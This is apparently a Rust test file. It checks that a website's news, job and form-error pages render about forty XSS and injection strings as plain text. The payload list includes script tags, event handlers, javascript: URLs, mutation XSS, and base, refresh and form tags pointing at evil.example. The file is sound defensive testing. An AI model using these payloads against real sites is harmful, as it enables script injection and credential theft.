//! Markup in news, openings and refused forms. Each page is compared with the same page of a site whose texts have letters
//! instead of special characters: only the texts may differ, not elements, attributes or URLs.

use serde_json::{Value, json};
use tempfile::{TempDir, tempdir};

use super::html::{harmless, outline_of_xml, same_structure};
use super::{Row, each, expect};
use crate::binary::{Binary, put_record};
use crate::form::Form;
use crate::server::Server;

/// Texts of at most 100 characters, without line breaks.
pub fn rows() -> Vec<Row<&'static str>> {
    vec![
        ("a script", "<script>alert(1)</script>"),
        (
            "an external script",
            "<script src=//evil.example/x.js></script>",
        ),
        ("a script in capitals", "<SCRIPT>alert(1)</SCRIPT >"),
        ("an image with onerror", "<img src=x onerror=alert(1)>"),
        ("an SVG with onload", "<svg/onload=alert(1)>"),
        ("an unclosed element", "<img src=x onerror=alert(1)//"),
        ("a closing title tag", "</title><script>alert(1)</script>"),
        ("a closing script tag", "</script><script>alert(1)</script>"),
        (
            "a closing script tag with a space",
            "</script ><img src=x onerror=alert(1)>",
        ),
        ("a script in a comment in a script", "<!--<script>"),
        ("a comment end", "--><script>alert(1)</script>"),
        ("a double quote", "\" onmouseover=\"alert(1)"),
        ("a single quote", "' onfocus='alert(1)' autofocus='"),
        ("a backtick", "` onmouseover=alert(1) `"),
        (
            "a closing textarea tag",
            "</textarea><script>alert(1)</script>",
        ),
        (
            "a closing select tag",
            "</option></select><img src=x onerror=alert(1)>",
        ),
        (
            "a style",
            "<style>p{background:url(//evil.example)}</style>",
        ),
        ("a base", "<base href=https://evil.example/>"),
        (
            "a refresh",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
        ),
        (
            "a frame",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        ),
        (
            "a form",
            "<form action=//evil.example><input name=password>",
        ),
        ("a link with a script", "<a href=javascript:alert(1)>x</a>"),
        ("a javascript URL", "javascript:alert(1)//"),
        ("a data URL", "data:text/html,<script>alert(1)</script>"),
        ("encoded markup", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        (
            "numeric character references",
            "&#60;script&#x3e;alert(1)&#60;/script&#62;",
        ),
        (
            "markup that mutates when parsed twice",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        ),
        (
            "MathML",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ),
        ("a CDATA section", "<![CDATA[<script>alert(1)</script>]]>"),
        (
            "an XML processing instruction",
            "<?xml-stylesheet href=\"//evil.example\"?>",
        ),
        (
            "JSON escapes",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        ),
        (
            "the end of a JSON string",
            "\",\"slug\":\"//evil.example\",\"x\":\"\\",
        ),
        ("JavaScript line separators", "a\u{2028}alert(1)\u{2029}//"),
        ("a template", "{{constructor.constructor('alert(1)')()}}"),
        ("a JavaScript template", "${alert(1)}"),
        ("a replacement pattern", "$& $` $' $1 $$ $<x>"),
        ("React's error marker", "<!--$!--><template></template>"),
        (
            "the template's placeholder",
            "</head><div id=\"root\"></div>",
        ),
        ("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        (
            "full-width brackets",
            "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
        ),
        (
            "a right-to-left override",
            "\u{202e}>tpircs/<)1(trela>tpircs<",
        ),
        (
            "markdown",
            "[x](javascript:alert(1)) ![x](//evil.example/x.png)",
        ),
    ]
}

fn slug(index: usize) -> String {
    format!("row-{index}")
}

/// A small number, because a page that lists them must render within two seconds even on a busy machine.
const ROWS_PER_SITE: usize = 14;

/// Starts a site with a news item and an opening for each of the `texts`.
fn site(dir: &TempDir, texts: impl Iterator<Item = String>) -> Server {
    for (index, text) in texts.enumerate() {
        let content = format!("{text}\n{text}\n\n{text}");
        let published_at = format!("2026-01-01T00:00:{index:02}+05:00");
        let news = json!({ "title": text, "published_at": published_at });
        let job = json!({
            "title": text, "location": text, "no_of_vacancies": 1, "min_age": 21, "max_age": 45,
            "expired_date": "2999-12-31", "posted_at": published_at,
            "pay_min": 900, "pay_period": "day", "hours": text, "meals": text,
            // A page makes a list of what semicolons separate.
            "documents": text.replace(';', ","),
        });
        for (kind, fields) in [("news", news), ("jobs", job)] {
            let folder = dir.path().join("content").join(kind);
            put_record(&folder, &slug(index), &fields, &content);
        }
    }
    let imported = Binary::in_dir(dir.path()).run(&["import", "content"]);
    assert_eq!(imported.code, 0, "{}", imported.stderr);
    Server::on(
        &dir.path().join("standfast.db"),
        &["--clock", "2026-02-01T12:00:00+05:00"],
    )
}

#[test]
fn markup_in_news_and_openings_is_text_on_every_page() {
    for rows in rows().chunks(ROWS_PER_SITE) {
        compare_sites(rows);
    }
}

fn compare_sites(rows: &[Row<&str>]) {
    let dirs = [tempdir().unwrap(), tempdir().unwrap()];
    let hostile = site(&dirs[0], rows.iter().map(|(_, text)| (*text).to_owned()));
    let benign = site(&dirs[1], rows.iter().map(|(_, text)| harmless(text)));
    let same = |path: &str, text: Option<&str>| {
        let (page, other) = (hostile.get(path), benign.get(path));
        expect(&(page.status, other.status), &(200, 200))?;
        same_structure(&page.body, &other.body, text).map_err(|error| format!("{path}: {error}"))
    };
    for path in ["/", "/news", "/career", "/career-apply", "/sitemap.xml"] {
        same(path, None).unwrap();
    }
    let (feed, other) = (hostile.get("/feed.xml").body, benign.get("/feed.xml").body);
    assert_eq!(
        outline_of_xml(&feed).unwrap(),
        outline_of_xml(&other).unwrap()
    );
    let list = |path: &str| hostile.get(path).json()["data"].as_array().unwrap().clone();
    let (news, jobs) = (list("/api/news"), list("/api/jobs"));
    let titled = |list: &[Value], slug: &str| {
        let mut items = list.iter().filter(|item| item["slug"] == *slug);
        items
            .next()
            .and_then(|item| Some(item["title"].as_str()?.to_owned()))
    };
    let mut slugs = (0..).map(slug);
    each("markup in news and openings", rows, |text| {
        let slug = slugs.next().unwrap_or_default();
        same(&format!("/news/{slug}"), Some(text))?;
        same(&format!("/career/{slug}"), Some(text))?;
        expect(&titled(&news, &slug).as_deref(), &Some(*text))?;
        expect(&titled(&jobs, &slug).as_deref(), &Some(*text))
    });
}

#[test]
fn markup_in_a_refused_form_is_text_on_its_page() {
    let server = Server::start(&["--demo"]);
    let encoded =
        |text: &str| -> String { text.bytes().map(|byte| format!("%{byte:02x}")).collect() };
    let contact = |text: &str| {
        let text = encoded(text);
        let form = format!(
            "name={text}&email={text}&subject={text}&message={text}&job={text}&{text}={text}"
        );
        server.post(
            "/api/contact-us",
            "application/x-www-form-urlencoded",
            &form,
        )
    };
    let application = |text: &str| {
        let form = ["name", "email", "contact", "job_position", "message", "job"];
        let form = form.into_iter().fold(Form::default(), |form, name| {
            form.part(&format!("form-data; name=\"{name}\""), text.as_bytes())
        });
        form.send_without_script(&server)
    };
    each("markup in refused forms", &rows(), |text| {
        for send in [&contact as &dyn Fn(&str) -> _, &application] {
            let (page, other) = (send(text), send(&harmless(text)));
            expect(&(page.status, other.status), &(422, 422))?;
            same_structure(&page.body, &other.body, Some(text))?;
        }
        Ok(())
    });
}
